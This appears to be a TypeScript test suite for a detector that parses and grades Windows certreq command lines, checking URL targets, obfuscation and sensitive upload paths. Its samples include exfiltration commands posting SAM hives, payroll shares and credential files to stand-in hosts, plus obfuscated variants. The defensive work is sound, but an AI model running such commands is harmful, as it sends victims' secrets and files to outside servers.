import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { CORPUS } from '../helpers/paths.js';
import { isCertreqName, parseCertreqCommandLine } from '../../src/triage/certreq.js';
import { gradeCertreq } from '../../src/triage/severity.js';
import { classifyPath } from '../../src/triage/paths.js';
import { parseConfigTarget } from '../../src/triage/target.js';
import { needs } from '../helpers/requirements.js';

interface Row { line: number; label: string; commandLine: string; image: string; ofn: string; note: string }

function corpusRows(): Row[] {
  const lines = readFileSync(join(CORPUS, 'certreq', 'commands.tsv'), 'utf8').split('\n');
  const header = lines[0]!.split('\t');
  assert.deepEqual(header.slice(0, 4), ['label', 'command_line', 'image', 'original_file_name']);
  return lines.slice(1).map((l, i) => ({ l, line: i + 2 })).filter((x) => x.l.trim() !== '').map(({ l, line }) => {
    const [label, commandLine, image, ofn, , note] = l.split('\t');
    return { line, label: label!, commandLine: commandLine!, image: image!, ofn: ofn ?? '', note: note ?? '' };
  });
}

/**
 * What each row of the corpus does, read from its command line and its note: verb, -config target kind, file
 * sent, response file, and the severity the built-in rule's alert gets (the README severity table). null = none.
 * Rows whose process is not certreq give the certreq command they launch (cmd /c, powershell -c) or null.
 */
const EXPECTED: Array<[number, string | null, string | null, string | null, string | null, string]> = [
  [2, "post", "url", "c:\\windows\\win.ini", "output.txt", "high"],
  [3, "post", "url", "c:\\windows\\win.ini", null, "high"],
  [4, "post", "url", "c:\\windows\\win.ini", "and", "high"],
  [5, "post", "url", "c:\\windows\\win.ini", "%temp%\\Atomic-license.txt", "high"],
  [6, "post", "url", "c:\\windows\\win.ini", "C:\\Users\\alice\\AppData\\Local\\Temp\\Atomic-license.txt", "high"],
  [7, "post", "url", "c:\\windows\\win.ini", "%temp%\\Atomic-license.txt", "medium"],
  [8, "post", "url", "C:\\Windows\\System32\\drivers\\etc\\hosts", "C:\\Users\\Public\\payload.b64", "critical"],
  [9, "post", "url", "C:\\Windows\\System32\\license.rtf", "C:\\ProgramData\\upd.txt", "high"],
  [10, "post", "url", "c:\\windows\\win.ini", "C:\\Users\\Public\\beacon.ps1", "critical"],
  [11, "post", "url", "c:\\windows\\win.ini", "%APPDATA%\\upd.dat", "high"],
  [12, "post", "url", "C:\\Windows\\win.ini", "C:\\ProgramData\\a.txt", "high"],
  [13, "post", "url", "C:\\Windows\\win.ini", "out.txt", "high"],
  [14, "post", "url", "C:\\Users\\bob\\Documents\\Q3-financials.xlsx", null, "critical"],
  [15, "post", "url", "C:\\Users\\Public\\sam.save", null, "critical"],
  [16, "post", "url", "\\\\fs01\\finance$\\payroll.csv", null, "critical"],
  [17, "post", "url", "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Credentials\\cred.txt", null, "critical"],
  [18, "post", "url", "c:\\windows\\win.ini", "out.txt", "high"],
  [19, "post", "url", "C:\\WINDOWS\\WIN.INI", "OUT.TXT", "high"],
  [20, "post", "url", "c:\\windows\\win.ini", "out.txt", "high"],
  [21, "post", "url", "c:\\windows\\win.ini", "out.txt", "high"],
  [22, "post", "url", "c:\\windows\\win.ini", "out.txt", "critical"],
  [23, "post", "url", "c:\\windows\\win.ini", "out.txt", "critical"],
  [24, "post", "url", "c:\\windows\\win.ini", "out.txt", "critical"],
  [25, "post", "url", "c:\\windows\\win.ini", "out.txt", "critical"],
  [26, "post", "url", "c:\\windows\\win.ini", "out.txt", "high"],
  [27, "post", "url", "c:\\windows\\win.ini", "out.txt", "critical"],
  [28, "post", "url", "c:\\windows\\win.ini", "out.txt", "medium"],
  [29, "post", "url", "c:\\windows\\win.ini", "out.txt", "high"],
  [30, "post", "url", "$env:windir\\win.ini", "$env:TEMP\\o.txt", "medium"],
  [31, "post", "url", "%windir%\\win.ini", "%temp%\\o.txt", "medium"],
  [32, "post", "url", "c:\\windows\\win.ini", "out.txt", "high"],
  [33, "post", "url", "c:\\windows\\win.ini", "out.txt", "critical"],
  [34, "post", "url", "c:\\windows\\win.ini", "out.txt", "critical"],
  [35, "post", "url", "c:\\windows\\win.ini", "out.txt", "high"],
  [36, "post", "url", "C:\\Windows\\System32\\license.rtf", "C:\\ProgramData\\p.txt", "high"],
  [37, "post", "url", "c:\\windows\\win.ini", "a.txt", "high"],
  [38, "post", "url", "c:\\windows\\win.ini", "p.txt", "high"],
  [39, "post", "url", "C:\\Program Files\\App\\config.ini", "C:\\Users\\Public\\out file.txt", "high"],
  [40, "post", "url", "C:\\Windows\\win.ini", "C:\\Users\\Public\\x.txt:stream", "high"],
  [41, "post", "url", "C:\\Users\\theuser\\Desktop\\thefile", null, "critical"],
  [42, "new", null, null, null, "medium"],
  [43, "submit", null, "certrequest.req", "certnew.cer", "low"],
  [44, "retrieve", null, null, "MyCertificate.cer", "low"],
  [45, "new", null, null, null, "low"],
  [46, "accept", null, null, null, "low"],
  [47, "policy", null, null, null, "low"],
  [48, "new", null, null, null, "low"],
  [49, "sign", null, null, null, "low"],
  [50, "submit", null, "myrequest_sign.req", "myrequest_cert.cer", "low"],
  [51, "enroll", null, null, null, "low"],
  [52, "enroll", null, null, null, "low"],
  [53, "help", null, null, null, "informational"],
  [54, "enrollcredguardcert", null, null, null, "low"],
  [55, "enrollaik", "empty", null, null, "low"],
  [56, "new", null, null, null, "low"],
  [57, "submit", "ca", "C:\\Windows\\TEMP\\CertReq-5f0c1e2a-3b4d-4c5e-8f90-112233445566.req", "C:\\Windows\\TEMP\\CertReq-5f0c1e2a-3b4d-4c5e-8f90-112233445566.cer", "low"],
  [58, "accept", null, null, null, "low"],
  [59, "submit", "ca", "C:\\Windows\\TEMP\\CertReq-1.req", "C:\\Windows\\TEMP\\CertReq-1.cer", "low"],
  [60, "submit", null, "web01.req", "web01.cer", "low"],
  [61, "submit", "ca", "C:\\certs\\web01.req", "C:\\certs\\web01.cer", "low"],
  [62, "retrieve", "ca", null, "C:\\certs\\web01.cer", "low"],
  [63, "submit", "local_ca", "request.req", "request.cer", "low"],
  [64, "new", null, null, null, "low"],
  [65, "accept", null, null, null, "low"],
  [66, "submit", null, "ssl.req", "ssl.cer", "low"],
  [67, "enroll", null, null, null, "low"],
  [68, "enroll", null, null, null, "low"],
  [69, "new", null, null, null, "low"],
  [70, "submit", "ca", "skyline.csr", "skyline.cer", "low"],
  [71, "accept", null, null, null, "low"],
  [72, "new", "url", null, null, "low"],
  [73, "submit", "url", "C:\\Temp\\ws.req", "C:\\Temp\\ws.cer", "low"],
  [74, "submit", "url", "C:\\Temp\\pg.req", "C:\\Temp\\pg.cer", "low"],
  [75, "submit", "url", "C:/PostgreSQL/16/data/server.req", "C:/PostgreSQL/16/data/server.crt", "low"],
  [76, "enroll", null, null, null, "low"],
  [77, "submit", null, null, null, "informational"],
  [78, "submit", "ca", "esc15.req", null, "low"],
  [79, null, null, null, null, "medium"],
  [80, null, null, null, null, "medium"],
  [81, null, null, null, null, "medium"],
  [82, "post", "url", "c:\\windows\\win.ini", "out.txt", "high"],
];

test('every corpus row: verb, target, file sent, response file and severity as its intent says', needs('corpus'), () => {
  const rows = corpusRows();
  assert.equal(rows.length, EXPECTED.length, 'the corpus changed: review the expectations');
  for (const row of rows) {
    const [line, verb, target, upload, response, severity] = EXPECTED.find((e) => e[0] === row.line)!;
    assert.equal(line, row.line);
    const t = gradeCertreq({ image: row.image, ...(row.ofn ? { originalFileName: row.ofn } : {}), commandLine: row.commandLine });
    const where = `line ${row.line}: ${row.commandLine}`;
    assert.equal(t.intent?.verb ?? null, verb, where);
    assert.equal(t.intent?.target?.kind ?? null, target, where);
    assert.equal(t.intent?.upload_file ?? null, upload, where);
    assert.equal(t.intent?.response_file ?? null, response, where);
    assert.equal(t.severity, severity, where);
    assert.ok(t.reason.length > 10 && !t.reason.includes('\n'), where);
    // Malicious rows are never graded below medium; benign ones never above low.
    if (row.label === 'malicious') assert.ok(['medium', 'high', 'critical'].includes(t.severity), where);
    if (row.label === 'benign') assert.ok(['informational', 'low'].includes(t.severity), where);
  }
});

test('URL targets: scheme, host kind, port, private addresses, paste/tunnel services', () => {
  const v6 = parseCertreqCommandLine('certreq -Post -config http://[2001:db8::5]/x C:\\Windows\\win.ini out.txt')!;
  assert.deepEqual(
    { ...v6.target },
    { kind: 'url', url: 'http://[2001:db8::5]/x', scheme: 'http', host: '2001:db8::5', host_type: 'ipv6', port: 80, path: '/x', valid: true },
  );
  const ip = parseConfigTarget('http://203.0.113.45:8080/stage2');
  assert.ok(ip.kind === 'url' && ip.valid && ip.host_type === 'ipv4' && ip.port === 8080 && ip.private_address === undefined);
  const lab = parseConfigTarget('http://192.168.56.101/');
  assert.ok(lab.kind === 'url' && lab.valid && lab.private_address === true);
  const named = parseConfigTarget('https://cdn-update.example.net:8443/api/v2/upd');
  assert.ok(named.kind === 'url' && named.valid && named.host_type === 'name' && named.port === 8443 && named.host === 'cdn-update.example.net');
  const paste = parseConfigTarget('https://pastebin.com/raw/AbCdEf12');
  assert.ok(paste.kind === 'url' && paste.valid && paste.paste_or_tunnel_service === true);
  assert.deepEqual(parseConfigTarget('ca01.contoso.com\\Contoso Issuing CA'), { kind: 'ca', ca_host: 'ca01.contoso.com', ca_name: 'Contoso Issuing CA' });
  assert.deepEqual(parseConfigTarget('-'), { kind: 'local_ca' });
  assert.deepEqual(parseConfigTarget(''), { kind: 'empty' });
  assert.deepEqual(parseConfigTarget('ca01'), { kind: 'host', host: 'ca01' });
  const bad = parseConfigTarget('http://exa mple/');
  assert.equal(bad.kind === 'url' && bad.valid, false);
});

test('switches: - / and Unicode dashes in any case; obfuscation is reported', () => {
  for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015', '\u2212']) {
    const i = parseCertreqCommandLine(`certreq ${dash}PoSt ${dash}CONFIG https://x.example/ a.txt`)!;
    assert.equal(i.verb, 'post', dash);
    assert.equal(i.url, 'https://x.example/', dash);
    assert.equal(i.upload_file, 'a.txt', dash);
    assert.equal(i.obfuscation?.includes('unicode_dash') ?? false, dash !== '-' && dash !== '/', dash);
  }
  const modifier = parseCertreqCommandLine('certreq -P\u1d52st -c\u1d52nfig https://example.org/ c:\\windows\\win.ini out.txt')!;
  assert.equal(modifier.verb, 'post');
  assert.deepEqual(modifier.obfuscation, ['compatibility_characters']);
  const quoted = parseCertreqCommandLine('certreq -P""ost -con""fig https://example.org/ c:\\windows\\win.ini out.txt')!;
  assert.equal(quoted.verb, 'post');
  assert.deepEqual(quoted.obfuscation, ['quote_insertion']);
  // Quotes around a whole argument are ordinary quoting, not obfuscation.
  assert.equal(parseCertreqCommandLine('certreq "-Post" "-config" "https://example.org/" "c:\\windows\\win.ini"')!.obfuscation, undefined);
});

test('certreq inside another command line: cmd /c with carets, quoted cmd /c, powershell -c', () => {
  const caret = parseCertreqCommandLine('cmd.exe /c c^ertreq -Po^st -con^fig http^s://example.org/ c:\\windows\\win.ini out.txt')!;
  assert.equal(caret.invoked_via, 'cmd.exe');
  assert.equal(caret.url, 'https://example.org/');
  assert.ok(caret.obfuscation?.includes('caret_escapes'));
  const quoted = parseCertreqCommandLine('cmd.exe /c "%windir%\\system32\\certreq.exe -Post -config https://example.org/ %windir%\\win.ini %temp%\\o.txt"')!;
  assert.equal(quoted.response_file, '%temp%\\o.txt');
  const ps = parseCertreqCommandLine('powershell.exe -nop -c "certreq -Post -config https://example.org/ $env:windir\\win.ini $env:TEMP\\o.txt"')!;
  assert.equal(ps.invoked_via, 'powershell.exe');
  assert.equal(ps.upload_file, '$env:windir\\win.ini');
  assert.equal(parseCertreqCommandLine('findstr /s /i "http" C:\\Deploy\\PostConfig\\*.ini C:\\Windows\\win.ini'), undefined);
});

test('options, values, passwords and extra arguments', () => {
  const i = parseCertreqCommandLine('certreq.exe -new -q -username CONTOSO\\svc_web -p S3cret! -PolicyServer https://cep.contoso.com/CEP -config https://ces.contoso.com/CES C:\\T\\a.inf C:\\T\\a.req')!;
  assert.equal(i.verb, 'new');
  assert.equal(i.options['q'], true);
  assert.equal(i.options['username'], 'CONTOSO\\svc_web');
  assert.equal(i.options['p'], '********', 'a password never reaches an alert');
  assert.ok(!JSON.stringify(i).includes('S3cret!'));
  assert.equal(i.options['policyserver'], 'https://cep.contoso.com/CEP');
  assert.deepEqual(i.input_files, ['C:\\T\\a.inf']);
  assert.deepEqual(i.output_files, ['C:\\T\\a.req']);
  const prose = parseCertreqCommandLine('CertReq -Post -config https://example.org/ c:\\windows\\win.ini and show response in terminal')!;
  assert.deepEqual(prose.extra_args, ['show', 'response', 'in', 'terminal']);
  assert.deepEqual(parseCertreqCommandLine('certreq -frobnicate x')!.unknown_switches, ['-frobnicate']);
  assert.equal(parseCertreqCommandLine('certreq -submit -config - request.req request.cer')!.target?.kind, 'local_ca');
  assert.equal(parseCertreqCommandLine('certreq -enrollaik -config ""')!.target?.kind, 'empty');
});

test('sensitive paths and remote shares are flagged', () => {
  assert.ok(classifyPath('C:\\Windows\\System32\\config\\SAM').includes('registry_hive'));
  assert.ok(classifyPath('C:\\Users\\Public\\sam.save').includes('registry_hive'));
  assert.ok(!classifyPath('C:\\Windows\\System32\\system').includes('registry_hive'));
  assert.ok(classifyPath('C:\\Windows\\NTDS\\ntds.dit').includes('ad_database'));
  assert.ok(classifyPath('D:\\keys\\Passwords.KDBX').includes('password_database'));
  assert.ok(classifyPath('C:\\Temp\\lsass.dmp').includes('memory_dump'));
  assert.ok(classifyPath('C:\\Users\\bob\\Documents\\Q3.xlsx').includes('user_documents'));
  assert.ok(classifyPath('C:/Users/bob/Documents/Q3.xlsx').includes('user_documents'));
  assert.ok(classifyPath('%USERPROFILE%\\Documents\\Q3.xlsx').includes('user_documents'));
  assert.ok(classifyPath('$env:USERPROFILE\\Desktop\\notes.txt').includes('user_documents'));
  assert.ok(classifyPath('\\\\fs01\\finance$\\payroll.csv').includes('remote_share'));
  assert.ok(!classifyPath('\\\\?\\C:\\x.txt').includes('remote_share'));
  assert.ok(classifyPath('C:\\Users\\Public\\x.txt:stream').includes('alternate_data_stream'));
  assert.ok(classifyPath('c:\\windows\\win.ini').includes('windows_ini'));
  assert.deepEqual(classifyPath('certrequest.req'), []);
  const exfil = parseCertreqCommandLine('certreq -Post -config https://exfil.example.com/u \\\\fs01\\finance$\\payroll.csv')!;
  assert.equal(exfil.remote_share, true);
  assert.equal(parseCertreqCommandLine('certreq -Post -config https://x/ C:\\Users\\Public\\sam.save')!.sensitive_upload, true);
  assert.equal(parseCertreqCommandLine('certreq -Post -config https://x/ c:\\windows\\win.ini')!.sensitive_upload, false);
});

test('program names: certreq with or without .exe, any case, any path; a leading blank', () => {
  assert.equal(parseCertreqCommandLine(' certreq -Post -config https://x/ a.txt')!.upload_file, 'a.txt');
  assert.equal(gradeCertreq({ image: 'C:\\Windows\\System32\\certreq.exe', commandLine: ' certreq -Post -config https://x/ a.txt' }).intent?.upload_file, 'a.txt');
  assert.ok(isCertreqName('C:\\Windows\\SysWOW64\\CERTREQ.EXE'));
  assert.ok(isCertreqName('certreq'));
  assert.ok(!isCertreqName('C:\\Users\\Public\\cr.exe'));
  assert.ok(!isCertreqName('certreq2.exe'));
});

test('a 64k command line is parsed within its bound', () => {
  const huge = `certreq -Post -config https://x.example/ ${'C:\\a'.repeat(16_000)} out.txt`;
  const i = parseCertreqCommandLine(huge)!;
  assert.equal(i.verb, 'post');
  assert.equal(i.truncated, true);
});
